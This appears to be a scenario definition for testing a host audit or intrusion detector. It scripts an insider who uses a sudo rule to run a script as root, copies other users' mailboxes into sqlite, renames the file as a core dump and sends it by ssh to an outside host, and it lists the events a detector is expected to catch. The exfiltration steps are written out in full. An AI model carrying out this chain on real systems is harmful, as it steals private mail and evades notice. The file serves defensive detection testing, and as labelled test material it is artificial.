title="Mail of several people collected in a small database, sent by ssh into a file"
what="ops may run python as root by sudo (for an inventory tool); a script under a dull name reads the Maildirs of clerk and buyer into sqlite, the file is handed to ops, renamed to a core dump and cat through ssh to an outside host. Wide rule set, raw format."
user=ops daemons="cron sshd" audit_rules=audit-wide.rules audit_format=RAW
setup() {
  outside_sshd
  echo 'ops ALL=(root) NOPASSWD: /usr/bin/python3 /opt/inventory/*' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops
  mkdir -p /opt/inventory; chown ops: /opt/inventory
  own_file /opt/inventory/pkgs.py <<'P'
import sqlite3, glob, os, sys
d = sqlite3.connect('/var/lib/misc/pkgs.db')
d.execute('create table if not exists p (n text, v blob)')
for f in glob.glob('/home/*/Maildir/*/*'):
    if os.path.isfile(f):
        d.execute('insert into p values (?, ?)', (f, open(f, 'rb').read()))
d.commit(); d.close()
os.chmod('/var/lib/misc/pkgs.db', 0o644)
P
  private /var/lib/misc
}
act() {
  letters clerk 5; letters buyer 4; small_talk 2
  ssh_as ops <<'L'
uptime; df -h / | tail -1
sudo python3 /opt/inventory/pkgs.py
cp /var/lib/misc/pkgs.db /var/tmp/core.4711
ls -l /var/tmp
%sleep 4
ssh -p 2222 -i ~/.ssh/id_out -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@203.0.113.66 'cat > /tmp/core.4711' < /var/tmp/core.4711
rm /var/tmp/core.4711
L
  small_talk 1
}
truth() {
  exec_step collect 'python3.* /opt/inventory/pkgs.py' 'as root'
  file_step read 'python3.11 openat:read NORMAL /home/(clerk|buyer)/Maildir/new/' 'mail of others'
  file_step stage 'cp openat:write .*/var/tmp/core.4711' 'staged'
  net_step ssh 'ssh 203.0.113.66:2222' 'and out'
}
